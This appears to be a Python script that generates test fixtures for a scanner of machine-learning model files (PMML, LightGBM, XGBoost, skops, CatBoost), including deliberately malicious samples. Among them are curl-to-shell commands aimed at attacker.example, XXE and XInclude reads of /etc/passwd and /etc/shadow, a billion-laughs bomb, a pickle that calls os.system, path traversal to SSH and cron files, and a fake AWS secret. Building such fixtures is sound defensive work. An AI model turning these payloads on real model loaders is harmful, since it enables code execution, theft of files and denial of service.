"""Fixtures for the classic model formats: XGBoost, LightGBM, CatBoost, PMML, skops.

None of those libraries is installed, so every file is built by hand from the formats' public
descriptions (XGBoost's JSON schema and UBJSON, LightGBM's text model, CatBoost's CBM1 + flatbuffer
core, PMML 4.4, skops' schema.json). Run with /usr/bin/python3; writes into
src/test/resources/fixtures/{xgboost,lightgbm,catboost,pmml,skops}.
"""
import io
import json
import os
import pickle
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, "..", "resources", "fixtures")


def out(folder, name, data):
    d = os.path.join(FIX, folder)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def expected(folder, mapping):
    out(folder, "expected-rules.json", json.dumps(mapping, indent=2, sort_keys=True) + "\n")


# ---------------------------------------------------------------- PMML

PMML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
PMML_NS = "http://www.dmg.org/PMML-4_4"


def pmml(body, header_extra="", doctype=""):
    return (
        PMML_HEAD
        + doctype
        + f'<PMML xmlns="{PMML_NS}" version="4.4">\n'
        + f'  <Header copyright="Example Corp" description="credit scoring">\n'
        + f'    <Application name="SKL2PMML" version="0.90.0"/>\n{header_extra}  </Header>\n'
        + "  <DataDictionary numberOfFields=\"3\">\n"
        + '    <DataField name="x1" optype="continuous" dataType="double"/>\n'
        + '    <DataField name="x2" optype="continuous" dataType="double"/>\n'
        + '    <DataField name="y" optype="categorical" dataType="string">'
        + '<Value value="no"/><Value value="yes"/></DataField>\n'
        + "  </DataDictionary>\n"
        + body
        + "</PMML>\n"
    )


REGRESSION = """  <RegressionModel functionName="classification" normalizationMethod="logit">
    <MiningSchema>
      <MiningField name="y" usageType="target"/>
      <MiningField name="x1"/>
      <MiningField name="x2"/>
    </MiningSchema>
    <RegressionTable targetCategory="yes" intercept="-1.25">
      <NumericPredictor name="x1" coefficient="0.75"/>
      <NumericPredictor name="x2" coefficient="-0.5"/>
    </RegressionTable>
    <RegressionTable targetCategory="no" intercept="0"/>
  </RegressionModel>
"""

TRANSFORM = """  <TransformationDictionary>
    <DefineFunction name="scaled" optype="continuous" dataType="double">
      <ParameterField name="v"/>
      <Apply function="/"><FieldRef field="v"/><Constant>10</Constant></Apply>
    </DefineFunction>
    <DerivedField name="x1s" optype="continuous" dataType="double">
      <Apply function="scaled"><FieldRef field="x1"/></Apply>
    </DerivedField>
    <DerivedField name="x2log" optype="continuous" dataType="double">
      <Apply function="ln"><Apply function="+"><FieldRef field="x2"/><Constant>1</Constant></Apply></Apply>
    </DerivedField>
  </TransformationDictionary>
"""


def gen_pmml():
    out("pmml", "benign-regression.pmml", pmml(REGRESSION))
    out("pmml", "benign-transformations.xml", pmml(TRANSFORM + REGRESSION))
    out(
        "pmml",
        "benign-extension-metadata.pmml",
        pmml(REGRESSION, '    <Extension name="repr" value="PMMLPipeline(steps=[...])"/>\n'.replace("(steps=[...])", "")),
    )
    out(
        "pmml",
        "malicious-xxe-file.pmml",
        pmml(
            REGRESSION,
            "    <Annotation>&xxe;</Annotation>\n",
            '<!DOCTYPE PMML [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
        ),
    )
    out(
        "pmml",
        "malicious-extension-script.pmml",
        pmml(
            REGRESSION,
            '    <Extension extender="evil" name="preprocess">\n'
            "      <script language=\"python\">import os; os.system('curl http://attacker.example/x | sh')</script>\n"
            "    </Extension>\n",
        ),
    )
    out(
        "pmml",
        "malicious-apply-java-class.pmml",
        pmml(
            TRANSFORM.replace('function="ln"', 'function="java.lang.Runtime.exec"') + REGRESSION
        ),
    )
    out(
        "pmml",
        "malicious-xinclude.pmml",
        pmml(REGRESSION, '    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/shadow" parse="text"/>\n'),
    )
    laughs = "".join(
        f'  <!ENTITY l{i} "' + (f"&l{i-1};" * 10 if i else "lol") + '">\n' for i in range(10)
    )
    out("pmml", "malicious-billion-laughs.pmml", pmml(REGRESSION, "    <Annotation>&l9;</Annotation>\n", "<!DOCTYPE PMML [\n" + laughs + "]>\n"))
    out(
        "pmml",
        "malicious-secret-in-annotation.pmml",
        pmml(REGRESSION, "    <Annotation>exported from s3://models with aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9a8Lk3Tz AKIAZ7QW4RTY8UOP2MXA</Annotation>\n"),
    )
    out("pmml", "malformed-truncated.pmml", pmml(REGRESSION)[:400])
    out("pmml", "malformed-deep-nesting.pmml", PMML_HEAD + f'<PMML xmlns="{PMML_NS}" version="4.4">' + "<Extension>" * 400 + "x" + "</Extension>" * 400 + "</PMML>\n")
    expected(
        "pmml",
        {
            "benign-extension-metadata.pmml": ["PMML-002"],
            "malicious-xxe-file.pmml": ["PMML-001"],
            "malicious-extension-script.pmml": ["PMML-002"],
            "malicious-apply-java-class.pmml": ["PMML-003"],
            "malicious-xinclude.pmml": ["PMML-004"],
            "malicious-billion-laughs.pmml": ["PMML-001", "CORE-001"],
            "malformed-truncated.pmml": ["CORE-001"],
            "malformed-deep-nesting.pmml": ["CORE-001"],
        },
    )


# ---------------------------------------------------------------- LightGBM

def lgb_tree(i, leaves=3, split=(0, 2), left=(1, -1), right=(-2, -3)):
    return (
        f"Tree={i}\n"
        f"num_leaves={leaves}\n"
        "num_cat=0\n"
        f"split_feature={' '.join(map(str, split))}\n"
        "split_gain=12.5 3.25\n"
        "threshold=0.50000000000000011 1.2500000000000002\n"
        "decision_type=2 2\n"
        f"left_child={' '.join(map(str, left))}\n"
        f"right_child={' '.join(map(str, right))}\n"
        "leaf_value=-0.12 0.08 0.21\n"
        "leaf_weight=10 12 8\n"
        "leaf_count=40 48 32\n"
        "internal_value=0 0.1\n"
        "internal_weight=30 20\n"
        "internal_count=120 80\n"
        "is_linear=0\n"
        "shrinkage=0.1\n\n\n"
    )


def lgb_params(extra=None):
    params = {
        "boosting": "gbdt",
        "objective": "binary",
        "data": "",
        "valid": "",
        "num_iterations": "2",
        "learning_rate": "0.1",
        "num_leaves": "31",
        "num_threads": "0",
        "seed": "0",
        "max_depth": "-1",
        "output_model": "LightGBM_model.txt",
        "input_model": "",
        "forcedsplits_filename": "",
        "forcedbins_filename": "",
        "machines": "",
        "local_listen_port": "12121",
        "num_machines": "1",
    }
    params.update(extra or {})
    return "parameters:\n" + "".join(f"[{k}: {v}]\n" for k, v in params.items()) + "end of parameters\n"


def lgb_model(trees=None, params=None, header_extra=""):
    trees = trees if trees is not None else [lgb_tree(0), lgb_tree(1)]
    return (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\n"
        "objective=binary sigmoid:1\nfeature_names=age income score tenure\n"
        "feature_infos=[18:90] [0:250000] [0:1] [0:40]\n"
        + header_extra
        + "tree_sizes=" + " ".join("400" for _ in trees) + "\n\n"
        + "".join(trees)
        + "end of trees\n\nfeature_importances:\nage=2\nscore=2\n\n"
        + (params if params is not None else lgb_params())
        + "\npandas_categorical:null\n"
    )


def gen_lightgbm():
    out("lightgbm", "benign-binary.txt", lgb_model())
    out("lightgbm", "benign-single-leaf.txt", lgb_model(trees=["Tree=0\nnum_leaves=1\nnum_cat=0\nsplit_feature=\nsplit_gain=\nthreshold=\ndecision_type=\nleft_child=\nright_child=\nleaf_value=0.5\nleaf_weight=\nleaf_count=\ninternal_value=\ninternal_weight=\ninternal_count=\nis_linear=0\nshrinkage=1\n\n\n"]))
    out("lightgbm", "malicious-output-model-path.txt", lgb_model(params=lgb_params({"output_model": "/etc/cron.d/lightgbm", "forcedsplits_filename": "../../../home/user/.ssh/authorized_keys"})))
    out("lightgbm", "malicious-machines.txt", lgb_model(params=lgb_params({"machines": "10.0.0.5:12400,attacker.example.com:12400", "num_machines": "2"})))
    out("lightgbm", "malicious-secret-in-header.txt", lgb_model(header_extra="data_source=s3://models?aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9a8Lk3Tz AKIAZ7QW4RTY8UOP2MXA\n"))
    out("lightgbm", "malformed-tree-arrays.txt", lgb_model(trees=[lgb_tree(0, split=(0, 7), left=(5, -1))]))
    out("lightgbm", "malformed-truncated.txt", lgb_model()[:700])
    expected(
        "lightgbm",
        {
            "malicious-output-model-path.txt": ["LGB-001", "LGB-001"],
            "malicious-machines.txt": ["LGB-002"],
            "malformed-tree-arrays.txt": ["LGB-003", "LGB-003"],
            "malformed-truncated.txt": ["CORE-001"],
        },
    )


# ---------------------------------------------------------------- XGBoost

def xgb_tree(i, left=(1, -1, -1), right=(2, -1, -1), split=(2, 0, 0), cond=(0.5, -0.2, 0.3)):
    return {
        "base_weights": [0.0, -0.2, 0.3],
        "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [],
        "default_left": [1, 0, 0],
        "id": i,
        "left_children": list(left),
        "loss_changes": [4.5, 0.0, 0.0],
        "parent": [2147483647, 0, 0],
        "right_children": list(right),
        "split_conditions": list(cond),
        "split_indices": list(split),
        "split_type": [0, 0, 0],
        "sum_hessian": [30.0, 14.0, 16.0],
        "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "3", "size_leaf_vector": "1"},
    }


def xgb_model(objective="binary:logistic", trees=None, attributes=None, num_trees=None):
    trees = trees if trees is not None else [xgb_tree(0), xgb_tree(1)]
    return {
        "learner": {
            "attributes": attributes or {},
            "feature_names": ["age", "income", "score", "tenure"],
            "feature_types": ["float", "float", "float", "float"],
            "gradient_booster": {
                "model": {
                    "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": str(num_trees if num_trees is not None else len(trees))},
                    "iteration_indptr": list(range(len(trees) + 1)),
                    "tree_info": [0] * len(trees),
                    "trees": trees,
                },
                "name": "gbtree",
            },
            "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0", "num_feature": "4", "num_target": "1"},
            "objective": {"name": objective, "reg_loss_param": {"scale_pos_weight": "1"}},
        },
        "version": [2, 0, 3],
    }


def ubj(v):
    """UBJSON as XGBoost writes it: typed, counted arrays for numbers; L lengths for strings."""
    if isinstance(v, bool):
        return b"T" if v else b"F"
    if v is None:
        return b"Z"
    if isinstance(v, int):
        return b"l" + struct.pack(">i", v) if -2**31 <= v < 2**31 else b"L" + struct.pack(">q", v)
    if isinstance(v, float):
        return b"d" + struct.pack(">f", v)
    if isinstance(v, str):
        b = v.encode()
        return b"S" + b"L" + struct.pack(">q", len(b)) + b
    if isinstance(v, list):
        if v and all(isinstance(x, float) for x in v):
            return b"[$d#L" + struct.pack(">q", len(v)) + b"".join(struct.pack(">f", x) for x in v)
        if v and all(isinstance(x, int) and not isinstance(x, bool) for x in v):
            return b"[$l#L" + struct.pack(">q", len(v)) + b"".join(struct.pack(">i", x) for x in v)
        return b"[" + b"".join(ubj(x) for x in v) + b"]"
    if isinstance(v, dict):
        body = b""
        for k, x in v.items():
            kb = k.encode()
            body += b"L" + struct.pack(">q", len(kb)) + kb + ubj(x)
        return b"{" + body + b"}"
    raise TypeError(type(v))


def xgb_legacy(objective="binary:logistic", booster="gbtree"):
    param = struct.pack("<fIiiiII", 0.5, 4, 0, 0, 0, 1, 0) + b"\0" * (136 - 28)
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    return b"binf" + param + s(objective) + s(booster) + b"\0" * 64


def gen_xgboost():
    out("xgboost", "benign-binary-logistic.json", json.dumps(xgb_model()))
    out("xgboost", "benign-binary-logistic.ubj", ubj(xgb_model()))
    out("xgboost", "benign-sklearn-attributes.json", json.dumps(xgb_model(objective="reg:squarederror", attributes={"best_iteration": "1", "scikit_learn": json.dumps({"n_estimators": 2, "_estimator_type": "regressor"})})))
    out("xgboost", "malicious-python-objective.json", json.dumps(xgb_model(objective="__main__.custom_obj")))
    out("xgboost", "malicious-python-objective.ubj", ubj(xgb_model(objective="os.system")))
    out("xgboost", "malicious-tree-out-of-bounds.ubj", ubj(xgb_model(trees=[xgb_tree(0, left=(1, -1, 9999)), xgb_tree(1)])))
    out("xgboost", "malicious-feature-index.json", json.dumps(xgb_model(trees=[xgb_tree(0, split=(4000000, 0, 0))])))
    out("xgboost", "suspicious-unknown-objective.json", json.dumps(xgb_model(objective="reg:mystery", num_trees=5)))
    out("xgboost", "malformed-truncated.ubj", ubj(xgb_model())[:300])
    out("xgboost", "malformed-lying-count.ubj", b"{L\0\0\0\0\0\0\0\x07learner[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff")
    out("xgboost", "malformed-legacy-header.model", b"binf" + struct.pack("<fI", float("nan"), 4) + b"\0" * 200)
    out("xgboost", "benign-legacy-binary.model", xgb_legacy())
    expected(
        "xgboost",
        {
            "malicious-python-objective.json": ["XGB-002"],
            "malicious-python-objective.ubj": ["XGB-002"],
            "malicious-tree-out-of-bounds.ubj": ["XGB-003"],
            "malicious-feature-index.json": ["XGB-003"],
            "malformed-truncated.ubj": ["CORE-001"],
            "malformed-lying-count.ubj": ["CORE-001"],
            "malformed-legacy-header.model": ["CORE-001"],
            "benign-legacy-binary.model": ["XGB-004"],
        },
    )


# ---------------------------------------------------------------- skops

def skops_value(cls, module, loader, content):
    return {"__class__": cls, "__module__": module, "__loader__": loader, "content": content}


def skops_schema(extra_params=None):
    params = {
        "C": skops_value("float", "builtins", "JsonNode", "1.0"),
        "penalty": skops_value("str", "builtins", "JsonNode", '"l2"'),
        "max_iter": skops_value("int", "builtins", "JsonNode", "100"),
        "coef_": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "8f1c3a2e.npy"},
        "classes_": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "b07d9e41.npy"},
    }
    params.update(extra_params or {})
    root = skops_value("LogisticRegression", "sklearn.linear_model._logistic", "ObjectNode",
                       skops_value("dict", "builtins", "DictNode", params))
    root["__id__"] = 1
    root["protocol"] = 2
    root["_skops_version"] = "0.10.0"
    return root


def npy_bytes(arr):
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=False)
    return buf.getvalue()


def skops_zip(schema, extra_members=None, schema_bytes=None):
    import numpy as np
    buf = io.BytesIO()

    class Fixed(zipfile.ZipFile):
        """Fixed timestamps, so that regenerating gives the same bytes."""

        def writestr(self, name, data):
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            super().writestr(info, data)

    with Fixed(buf, "w") as z:
        z.writestr("schema.json", schema_bytes if schema_bytes is not None else json.dumps(schema))
        z.writestr("8f1c3a2e.npy", npy_bytes(np.array([[0.5, -0.25, 1.5]], dtype="<f8")))
        z.writestr("b07d9e41.npy", npy_bytes(np.array([0, 1], dtype="<i8")))
        for name, data in (extra_members or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


class _System:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


def gen_skops():
    out("skops", "benign-logistic-regression.skops", skops_zip(skops_schema()))
    out("skops", "malicious-builtins-eval.skops", skops_zip(skops_schema({
        "scorer": skops_value("function", "builtins", "FunctionNode", {"module_path": "builtins", "function": "eval"})})))
    out("skops", "malicious-os-system-type.skops", skops_zip(skops_schema({
        "hook": skops_value("system", "posix", "ObjectNode", {})})))
    out("skops", "malicious-pickle-member.skops", skops_zip(skops_schema(), {"extra.pkl": pickle.dumps(_System(), protocol=2)}))
    out("skops", "suspicious-custom-transformer.skops", skops_zip(skops_schema({
        "transformer": skops_value("TextCleaner", "mycompany.preprocessing", "ObjectNode", skops_value("dict", "builtins", "DictNode", {}))})))
    out("skops", "malformed-schema.skops", skops_zip(None, schema_bytes=b'{"__class__": "LogisticRegression", "content": {'))
    expected(
        "skops",
        {
            "malicious-builtins-eval.skops": ["SKOPS-002"],
            "malicious-os-system-type.skops": ["SKOPS-002"],
            "malicious-pickle-member.skops": ["PKL-001"],
            "malformed-schema.skops": ["CORE-001"],
        },
    )


# ---------------------------------------------------------------- CatBoost

class FlatBuffer:
    """Lays a flatbuffer out front to back (readers only follow offsets, so order is free)."""

    def __init__(self):
        self.b = bytearray(4)

    def pad(self):
        while len(self.b) % 4:
            self.b.append(0)

    def table(self, nfields):
        self.pad()
        vt = len(self.b)
        self.b += struct.pack("<HH", 4 + 2 * nfields, 4 + 4 * nfields)
        self.b += b"".join(struct.pack("<H", 4 + 4 * i) for i in range(nfields))
        self.pad()
        t = len(self.b)
        self.b += struct.pack("<i", t - vt) + b"\0" * (4 * nfields)
        return t

    def string(self, s):
        self.pad()
        pos = len(self.b)
        data = s.encode()
        self.b += struct.pack("<I", len(data)) + data + b"\0"
        return pos

    def vector(self, n):
        self.pad()
        pos = len(self.b)
        self.b += struct.pack("<I", n) + b"\0" * (4 * n)
        return pos

    def link(self, at, target):
        struct.pack_into("<I", self.b, at, target - at)

    def field(self, table, i):
        return table + 4 + 4 * i


def catboost_core(info, version="FlabuffersModel_v1"):
    fb = FlatBuffer()
    root = fb.table(4)
    struct.pack_into("<I", fb.b, 0, root)
    fb.link(fb.field(root, 0), fb.string(version))
    trees = fb.table(0)
    fb.link(fb.field(root, 1), trees)
    vec = fb.vector(len(info))
    fb.link(fb.field(root, 2), vec)
    for i, (k, v) in enumerate(info.items()):
        kv = fb.table(2)
        fb.link(fb.field(kv, 0), fb.string(k))
        fb.link(fb.field(kv, 1), fb.string(v))
        fb.link(vec + 4 + 4 * i, kv)
    parts = fb.vector(0)
    fb.link(fb.field(root, 3), parts)
    return bytes(fb.b)


def cbm(info, core=None):
    core = core if core is not None else catboost_core(info)
    return b"CBM1" + struct.pack("<I", len(core)) + core


CB_PARAMS = {
    "loss_function": {"type": "Logloss"},
    "eval_metric": {"type": "AUC"},
    "boosting_options": {"iterations": 100, "learning_rate": 0.03},
    "tree_learner_options": {"depth": 6},
}


def gen_catboost():
    benign = {"catboost_version_info": "Git info:\n    Commit: 4d7de4b\n", "model_guid": "a3f1e6c2-7d0b4e1a-9c5f2b8d-1e4a6c3f",
              "params": json.dumps(CB_PARAMS), "train_finish_time": "2024-05-02T10:15:44Z", "training": json.dumps({"metrics": ["Logloss"]})}
    out("catboost", "benign-classifier.cbm", cbm(benign))
    custom = dict(benign, params=json.dumps(dict(CB_PARAMS, loss_function={"type": "PythonUserDefinedPerObject"})))
    out("catboost", "suspicious-user-defined-loss.cbm", cbm(custom))
    code = dict(benign, training=json.dumps({"custom_metric": "import os; os.system('curl http://attacker.example/p | sh')"}))
    out("catboost", "malicious-code-in-info.cbm", cbm(code))
    out("catboost", "malformed-core-size.cbm", b"CBM1" + struct.pack("<I", 1 << 30) + catboost_core(benign))
    bad = bytearray(catboost_core(benign))
    struct.pack_into("<I", bad, 0, 0x7ffffff0)
    out("catboost", "malformed-root-offset.cbm", cbm(None, bytes(bad)))
    out("catboost", "malformed-truncated.cbm", cbm(benign)[:60])
    expected(
        "catboost",
        {
            "malicious-code-in-info.cbm": ["CB-001"],
            "malformed-core-size.cbm": ["CORE-001"],
            "malformed-root-offset.cbm": ["CORE-001"],
            "malformed-truncated.cbm": ["CORE-001"],
        },
    )


if __name__ == "__main__":
    gen_pmml()
    gen_lightgbm()
    gen_xgboost()
    gen_skops()
    gen_catboost()
